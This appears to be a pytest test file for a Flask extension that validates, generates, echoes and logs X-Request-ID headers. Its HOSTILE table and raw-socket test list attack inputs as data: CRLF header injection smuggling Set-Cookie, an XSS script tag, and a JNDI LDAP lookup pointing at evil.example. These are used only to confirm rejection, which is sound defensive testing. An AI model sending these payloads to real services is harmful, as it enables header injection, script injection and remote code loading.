"""Request ids: accepted only when safe, generated otherwise, echoed, exposed, logged."""

from __future__ import annotations

import logging
import socket
from urllib.parse import urlsplit

import pytest
from flask import Flask, g, request_started
from hypothesis import given
from hypothesis import strategies as st

from flask_guard import FlaskGuard, RequestIdFilter, current_request_id
from flask_guard.web.request_id import SAFE_REQUEST_ID

from ..conftest import HEX32, make_app, serving

AWS_TRACE = "Root=1-5759e988-bd862e3fe1be46a994272793;Parent=53995c3f42cd8ad8;Sampled=1"

HOSTILE = {
    "crlf-set-cookie": "abc\r\nSet-Cookie: session=stolen",
    "lf": "abc\nX-Injected: 1",
    "5kb": "a" * 5 * 1024,
    "129 chars": "a" * 129,
    "non-ascii": "caf\u00e9-\u65e5\u672c",
    "percent-encoded crlf": "abc%0d%0aSet-Cookie:x",
    "script": "<script>alert(1)</script>",
    "jndi": "${jndi:ldap://evil.example/a}",
    "nul": "abc\x00def",
    "empty": "",
    "space": "abc def",
    "quote": 'abc"def',
    "braces": "{abc}",
}


def guarded_app() -> Flask:
    """Return a guarded app; tests about "outside a request" use it instead of the ``app``
    fixture, for which pytest-flask pushes a request context around the whole test."""
    app = make_app()
    FlaskGuard(app)

    @app.get("/id")
    def show_id() -> dict[str, object]:
        return {"g": g.request_id, "current": current_request_id()}

    return app


@pytest.fixture
def app() -> Flask:
    return guarded_app()


@pytest.mark.parametrize(
    "incoming",
    [
        "abc",
        "a" * 128,
        "1b4e28ba-2fa1-11d2-883f-0016d3cca427",
        AWS_TRACE,
        "a=b=c",
        "user@host:443/path+x,y;z=1_2.3",
    ],
)
def test_safe_incoming_id_is_used_and_echoed(app: Flask, incoming: str) -> None:
    response = app.test_client().get("/id", headers={"X-Request-ID": incoming})
    assert response.headers["X-Request-ID"] == incoming
    assert response.get_json() == {"g": incoming, "current": incoming}


@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_incoming_id_is_replaced_and_never_echoed(app: Flask, hostile: str) -> None:
    response = app.test_client().get("/id", environ_overrides={"HTTP_X_REQUEST_ID": hostile})
    echoed = response.headers["X-Request-ID"]
    assert HEX32.fullmatch(echoed)
    assert "Set-Cookie" not in response.headers
    assert response.get_json() == {"g": echoed, "current": echoed}


def test_hostile_ids_over_a_real_socket_are_never_echoed(app: Flask) -> None:
    values = [
        b"<script>alert(1)</script>",
        b"${jndi:ldap://e/a}",
        b"caf\xc3\xa9",
        b"a" * 5120,
        b"abc%0d%0aSet-Cookie:x",
    ]
    with serving(app) as url:
        port = urlsplit(url).port
        for value in values:
            raw = _raw_get(port, b"X-Request-ID: " + value)
            head = raw.split(b"\r\n\r\n", 1)[0]
            assert value not in head
            assert b"Set-Cookie" not in head
            echoed = [line for line in head.split(b"\r\n") if line.startswith(b"X-Request-ID: ")]
            assert len(echoed) == 1
            assert HEX32.fullmatch(echoed[0].removeprefix(b"X-Request-ID: ").decode())


def _raw_get(port: int | None, header: bytes) -> bytes:
    assert port is not None
    with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
        sock.sendall(
            b"GET /id HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + header + b"\r\n\r\n"
        )
        chunks = []
        while chunk := sock.recv(65536):
            chunks.append(chunk)
    return b"".join(chunks)


@given(st.text(max_size=140))
def test_id_is_echoed_exactly_when_it_is_safe(incoming: str) -> None:
    app = make_app()
    FlaskGuard(app)
    response = app.test_client().get("/", environ_overrides={"HTTP_X_REQUEST_ID": incoming})
    echoed = response.headers["X-Request-ID"]
    safe = 1 <= len(incoming) <= 128 and all(
        c.isascii() and (c.isalnum() or c in "-_.:=+/@;,") for c in incoming
    )
    assert (SAFE_REQUEST_ID.fullmatch(incoming) is not None) is safe
    if safe:
        assert echoed == incoming
    else:
        assert HEX32.fullmatch(echoed)


def test_missing_id_is_generated_fresh_per_request(app: Flask) -> None:
    client = app.test_client()
    first, second = client.get("/id"), client.get("/id")
    for response in (first, second):
        assert HEX32.fullmatch(response.headers["X-Request-ID"])
        assert response.get_json()["g"] == response.headers["X-Request-ID"]
    assert first.headers["X-Request-ID"] != second.headers["X-Request-ID"]


def test_ids_do_not_leak_between_requests_sharing_an_app_context(app: Flask) -> None:
    client = app.test_client()
    with app.app_context():
        first = client.get("/id", headers={"X-Request-ID": "first"}).get_json()
        second = client.get("/id").get_json()
    assert first["g"] == "first"
    assert second["g"] != "first"
    assert second["g"] == second["current"]


def test_untrusted_incoming_ids_are_always_replaced() -> None:
    app = make_app(GUARD_TRUST_REQUEST_ID=False)
    FlaskGuard(app)
    response = app.test_client().get("/", headers={"X-Request-ID": "client-chosen"})
    assert HEX32.fullmatch(response.headers["X-Request-ID"])


def test_header_name_is_configurable() -> None:
    app = make_app(GUARD_REQUEST_ID_HEADER="X-Correlation-ID")
    FlaskGuard(app)
    response = app.test_client().get("/", headers={"X-Correlation-ID": "corr-1"})
    assert response.headers["X-Correlation-ID"] == "corr-1"
    assert "X-Request-ID" not in response.headers


def test_id_exists_when_request_started_fires(app: Flask) -> None:
    seen: list[str | None] = []

    def receiver(sender: Flask, **kwargs: object) -> None:
        seen.append(current_request_id())

    request_started.connect(receiver, app)
    try:
        response = app.test_client().get("/id")
    finally:
        request_started.disconnect(receiver, app)
    assert seen == [response.headers["X-Request-ID"]]


def test_current_request_id_is_none_outside_a_request() -> None:
    app = guarded_app()
    assert current_request_id() is None
    with app.app_context():
        assert current_request_id() is None


def test_test_request_context_gets_an_id(app: Flask) -> None:
    with app.test_request_context(headers={"X-Request-ID": "ctx-1"}):
        assert current_request_id() == "ctx-1"
    with app.test_request_context():
        generated = current_request_id()
        assert generated is not None
        assert current_request_id() == generated


def test_unguarded_app_has_no_request_id() -> None:
    with Flask(__name__).test_request_context():
        assert current_request_id() is None


def _record(message: str = "hello", **extra: object) -> logging.LogRecord:
    record = logging.LogRecord("test", logging.INFO, __file__, 1, message, None, None)
    record.__dict__.update(extra)
    return record


def test_log_filter_puts_the_request_id_on_records() -> None:
    app = guarded_app()
    log_filter = RequestIdFilter()
    outside = _record()
    assert log_filter.filter(outside)
    assert outside.__dict__["request_id"] == "-"
    with app.test_request_context(headers={"X-Request-ID": "log-1"}):
        inside = _record()
        log_filter.filter(inside)
        kept = _record(request_id="explicit")
        log_filter.filter(kept)
    assert inside.__dict__["request_id"] == "log-1"
    assert kept.__dict__["request_id"] == "explicit"


def test_log_filter_feeds_a_formatter_during_a_request() -> None:
    app = guarded_app()
    lines: list[str] = []

    class Collect(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            lines.append(self.format(record))

    handler = Collect()
    handler.addFilter(RequestIdFilter())
    handler.setFormatter(logging.Formatter("%(request_id)s %(message)s"))
    logger = logging.getLogger("tests.request_id")
    logger.addHandler(handler)
    logger.setLevel(logging.INFO)

    @app.get("/log")
    def log_something() -> str:
        logger.info("inside")
        return "ok"

    try:
        app.test_client().get("/log", headers={"X-Request-ID": "line-1"})
        logger.info("outside")
    finally:
        logger.removeHandler(handler)
    assert lines == ["line-1 inside", "- outside"]
